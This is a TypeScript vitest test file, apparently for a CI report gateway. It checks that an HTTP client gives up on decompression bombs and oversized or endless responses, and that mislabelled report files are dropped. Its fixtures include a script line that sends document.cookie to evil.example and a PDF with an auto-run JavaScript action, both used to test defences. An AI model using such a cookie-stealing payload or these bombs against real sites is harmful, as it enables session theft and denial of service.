import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it, onTestFinished } from 'vitest';
import { type NativeReport, reportKinds } from '../../src/core/model/report.ts';
import { createRedactor } from '../../src/core/redact.ts';
import { keepDelivered } from '../../src/reports/delivered.ts';
import { recordingLogger } from '../doubles/recording-logger.ts';
import * as faults from '../fault-server/faults.ts';
import { failureOf, never, startClient, startServer } from '../http/harness.ts';

const bytes = (text: string) => new Uint8Array(Buffer.from(text));

describe('H12: bodies that are made to be too much', () => {
  const zeros = Buffer.alloc(20 * 1024 * 1024);
  const encoded = (encoding: string, body: Buffer) => faults.answer(body, { 'content-encoding': encoding });

  it.each([
    ['gzip', encoded('gzip', gzipSync(zeros))],
    ['gzip in gzip', encoded('gzip, gzip', gzipSync(gzipSync(zeros)))],
    ['many encodings', encoded(Array(50).fill('gzip').join(', '), gzipSync(zeros))],
    ['an unknown encoding', encoded('x-bomb', gzipSync(zeros))],
    ['encodings in two lines', faults.stackedEncodings],
    ['an encoded transfer', faults.encodedTransfer],
    ['endless headers', faults.endlessHeaders],
    ['one large header', faults.hugeHeader],
    ['endless trailers', faults.endlessTrailers],
    ['an endless body', faults.endlessBody],
    [
      '50 GB that are announced',
      faults.raw('50 GB', 'HTTP/1.1 200 OK\r\nContent-Length: 50000000000\r\n\r\n{', async () => {}),
    ],
  ])('are given up, and nothing is unpacked: %s', async (_, fault) => {
    const home = await mkdtemp(join(tmpdir(), 'scangate-files-'));
    onTestFinished(() => rm(home, { recursive: true }));
    const server = await startServer({ otherwise: fault });
    const { client } = startClient({ budgetMs: 0 });
    const call = failureOf(client.send({ url: server.url, expect: 'json' }, never));
    expect((await call).kind).toBe('body');
    const download = failureOf(
      client.download({ url: server.url, maxBytes: 100_000 }, join(home, 'x'), 'json', never),
    );
    expect((await download).kind).toBe('body');
    expect(await readdir(home)).toEqual([]);
  });

  it('are not unpacked either where they do not say that they are packed', async () => {
    const server = await startServer({ otherwise: faults.answer(gzipSync('{"ok":true}')) });
    const { client } = startClient({ budgetMs: 0 });
    const failure = await failureOf(client.send({ url: server.url, expect: 'json' }, never));
    expect(failure.message).toContain('it is not JSON');
  });

  it('are given up where they are too deep', async () => {
    const server = await startServer({
      otherwise: faults.answer(`${'['.repeat(100_000)}${']'.repeat(100_000)}`),
    });
    const { client } = startClient({ budgetMs: 0 });
    const failure = await failureOf(client.send({ url: server.url, expect: 'json' }, never));
    expect(failure.message).toContain('more than 200 levels deep');
  });
});

describe('H26: what a backend delivers', () => {
  const script = '<script>fetch("https://evil.example/" + document.cookie)</script>';
  const sheet = bytes('PK\u0003\u0004 [Content_Types].xml');

  it.each<[string, Omit<NativeReport, 'content'>, Uint8Array]>([
    ['a page as a PDF', { kind: 'pdf' }, bytes(`<html>${script}</html>`)],
    ['a page and a PDF in one', { kind: 'pdf' }, bytes(`<html>${script}</html>%PDF-1.7 %%EOF`)],
    ['half a PDF', { kind: 'pdf' }, bytes('%PDF-1.7')],
    ['a program as a PDF', { kind: 'pdf' }, bytes('\u007fELF')],
    ['a page as a bill of materials', { kind: 'cyclonedx' }, bytes(`<html>${script}</html>`)],
    ['a bill of materials of another kind', { kind: 'spdx' }, bytes('{"bomFormat":"CycloneDX"}')],
    ['a graph without a context', { kind: 'spdx' }, bytes('{"@graph":[]}')],
    ['a list as SARIF', { kind: 'sarif' }, bytes('[]')],
    [
      'a page as a spreadsheet',
      { kind: 'other', name: 'x', extension: 'xlsx' },
      bytes(`<html>${script}</html>`),
    ],
    [
      'an archive as a spreadsheet',
      { kind: 'other', name: 'x', extension: 'xlsx' },
      bytes('PK\u0003\u0004 ../../x'),
    ],
    [
      'an empty archive as a spreadsheet',
      { kind: 'other', name: 'x', extension: 'xlsx' },
      bytes('PK\u0005\u0006'),
    ],
    ['a spreadsheet as a page', { kind: 'other', name: 'x', extension: 'html' }, sheet],
    ['bytes as a page', { kind: 'other', name: 'x', extension: 'html' }, new Uint8Array([0x3c, 0xff, 0xfe])],
    ['a page as JSON', { kind: 'other', name: 'x', extension: 'json' }, bytes('<html></html>')],
    [
      'deep JSON',
      { kind: 'other', name: 'x', extension: 'json' },
      bytes(`${'['.repeat(1_000)}${']'.repeat(1_000)}`),
    ],
    ['JSON as JUnit', { kind: 'junit' }, bytes('{}')],
    ['a page as code quality', { kind: 'codequality' }, bytes('<html></html>')],
    ['bytes as Markdown', { kind: 'markdown' }, new Uint8Array([0xff, 0xfe, 0x00])],
    ['nothing', { kind: 'csv' }, new Uint8Array()],
  ])('is left out where it is not what it says: %s', (_, report, content) => {
    const logger = recordingLogger();
    const deps = { redactor: createRedactor(), logger };
    expect(keepDelivered([{ ...report, content }], reportKinds, deps)).toEqual([]);
    expect(logger.lines).toHaveLength(1);
  });

  it.each<[string, Omit<NativeReport, 'content'>, Uint8Array]>([
    ['a PDF with a script', { kind: 'pdf' }, bytes('%PDF-1.7 /OpenAction << /S /JavaScript >> %%EOF')],
    [
      'a page with a script',
      { kind: 'other', name: 'x', extension: 'html' },
      bytes(`<!doctype html>${script}`),
    ],
    ['a spreadsheet', { kind: 'other', name: 'x', extension: 'xlsx' }, sheet],
  ])('is only kept, byte for byte: %s', (_, report, content) => {
    const deps = { redactor: createRedactor(), logger: recordingLogger() };
    expect(keepDelivered([{ ...report, content }], reportKinds, deps)).toMatchObject([{ content }]);
  });
});
